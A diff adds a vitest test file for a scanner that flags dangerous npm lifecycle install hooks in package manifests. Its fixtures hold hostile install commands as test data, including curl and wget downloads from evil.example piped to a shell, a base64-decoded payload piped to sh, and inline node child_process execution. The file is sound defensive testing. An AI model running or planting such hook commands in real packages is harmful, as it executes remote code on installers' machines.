@@ -0,0 +1,143 @@
+import { describe, it, expect, beforeEach } from 'vitest';
+import { LifecycleScriptScanner } from '../../../lib/scanners/lifecycle-scripts';
+import type { RepositoryFile, ThreatResult } from '../../../lib/types';
+import { createFiles } from '../helpers/repository-files';
+
+function createManifest(relativePath: string, manifest: Record<string, unknown>): RepositoryFile {
+  return createFiles({ [relativePath]: JSON.stringify(manifest, null, 2) })[0];
+}
+
+describe('LifecycleScriptScanner', () => {
+  let scanner: LifecycleScriptScanner;
+
+  beforeEach(() => {
+    scanner = new LifecycleScriptScanner();
+  });
+
+  it('should have correct scanner properties', () => {
+    expect(scanner.name).toBe('lifecycle-scripts');
+    expect(scanner.category).toBe('lifecycle_scripts');
+  });
+
+  describe('install hooks', () => {
+    it('should report install hooks with their command and line', async () => {
+      const threats = await scanner.scan([createManifest('package.json', {
+        name: 'pkg',
+        scripts: { build: 'tsc', postinstall: 'node scripts/setup.js' }
+      })]);
+
+      expect(threats).toHaveLength(1);
+      expect(threats[0].subcategory).toBe('install_hook');
+      expect(threats[0].details?.hook).toBe('postinstall');
+      expect(threats[0].details?.command).toBe('node scripts/setup.js');
+      expect(threats[0].line).toBe(5);
+    });
+
+    it('should ignore scripts that do not run on install', async () => {
+      const threats = await scanner.scan([createManifest('package.json', {
+        scripts: { test: 'vitest', prepublishOnly: 'npm test' }
+      })]);
+
+      expect(threats).toHaveLength(0);
+    });
+
+    it('should analyze workspace package manifests', async () => {
+      const threats = await scanner.scan([
+        createManifest('package.json', { workspaces: ['packages/*'] }),
+        createManifest('packages/inner/package.json', { name: 'inner', scripts: { preinstall: 'echo hi' } })
+      ]);
+
+      expect(threats).toHaveLength(1);
+      expect(threats[0].file).toBe('/repo/packages/inner/package.json');
+      expect(threats[0].details?.packageName).toBe('inner');
+    });
+
+    it('should report unparsable manifests as INFO', async () => {
+      const threats = await scanner.scan(createFiles({ 'package.json': '{ "scripts": ' }));
+
+      expect(threats[0].subcategory).toBe('manifest_parse_error');
+      expect(threats[0].severity).toBe('INFO');
+    });
+  });
+
+  describe('dangerous commands', () => {
+    it('should flag remote scripts piped to a shell', async () => {
+      const threats = await scanner.scan([createManifest('package.json', {
+        scripts: { preinstall: 'curl -s https://evil.example/x.sh | bash' }
+      })]);
+
+      const remote = threats.find(t => t.subcategory === 'remote_script_execution');
+      expect(remote?.severity).toBe('CRITICAL');
+      expect(threats.some(t => t.subcategory === 'install_network_access')).toBe(false);
+    });
+
+    it('should flag base64 decoding and inline node code', async () => {
+      const threats = await scanner.scan([createManifest('package.json', {
+        scripts: {
+          install: 'echo aGk= | base64 -d | sh',
+          postinstall: 'node -e "require(\'child_process\').exec(\'id\')"'
+        }
+      })]);
+
+      expect(threats.filter(t => t.severity === 'CRITICAL').map(t => t.subcategory))
+        .toEqual(['encoded_payload', 'inline_code_execution']);
+    });
+
+    it('should follow npm run references from hooks', async () => {
+      const threats = await scanner.scan([createManifest('package.json', {
+        scripts: { postinstall: 'yarn setup', setup: 'pnpm run fetch', fetch: 'wget -qO- http://evil.example | sh' }
+      })]);
+
+      const remote = threats.find(t => t.subcategory === 'remote_script_execution');
+      expect(remote?.details?.matchedCommand).toBe('wget -qO- http://evil.example | sh');
+      expect(remote?.details?.expandedCommands).toEqual(['pnpm run fetch', 'wget -qO- http://evil.example | sh']);
+    });
+
+    it('should flag remote URLs in hooks', async () => {
+      const threats = await scanner.scan([createManifest('package.json', {
+        scripts: { postinstall: 'node-pre-gyp install --fallback-to-build https://example.com/bin' }
+      })]);
+
+      expect(threats.find(t => t.subcategory === 'install_network_access')?.details?.url)
+        .toBe('https://example.com/bin');
+    });
+  });
+
+  describe('invoked files', () => {
+    const files = [
+      createManifest('packages/lib/package.json', {
+        scripts: { postinstall: 'node ./scripts/install && sh hooks/run.sh' }
+      }),
+      ...createFiles({
+        'packages/lib/scripts/install.js': 'eval(x)',
+        'packages/lib/hooks/run.sh': 'echo hi',
+        'packages/lib/index.js': 'eval(y)'
+      })
+    ];
+
+    it('should resolve files run by install hooks', async () => {
+      const hookFiles = scanner.getInstallHookFiles(files);
+
+      expect(Array.from(hookFiles.keys())).toEqual([
+        '/repo/packages/lib/scripts/install.js',
+        '/repo/packages/lib/hooks/run.sh'
+      ]);
+      expect(hookFiles.get('/repo/packages/lib/scripts/install.js')).toEqual(['postinstall']);
+    });
+
+    it('should escalate findings in files reached from install hooks', async () => {
+      const threats: ThreatResult[] = [
+        { category: 'code_execution', subcategory: 'eval_usage', severity: 'WARNING', description: 'eval', file: '/repo/packages/lib/scripts/install.js' },
+        { category: 'code_execution', subcategory: 'eval_usage', severity: 'WARNING', description: 'eval', file: '/repo/packages/lib/index.js' }
+      ];
+
+      const refined = await scanner.refineThreats(threats, files);
+
+      expect(refined[0].severity).toBe('CRITICAL');
+      expect(refined[0].details?.reachableFromInstallHook).toBe(true);
+      expect(refined[0].details?.originalSeverity).toBe('WARNING');
+      expect(refined[0].description).toContain('postinstall');
+      expect(refined[1]).toEqual(threats[1]);
+    });
+  });
+});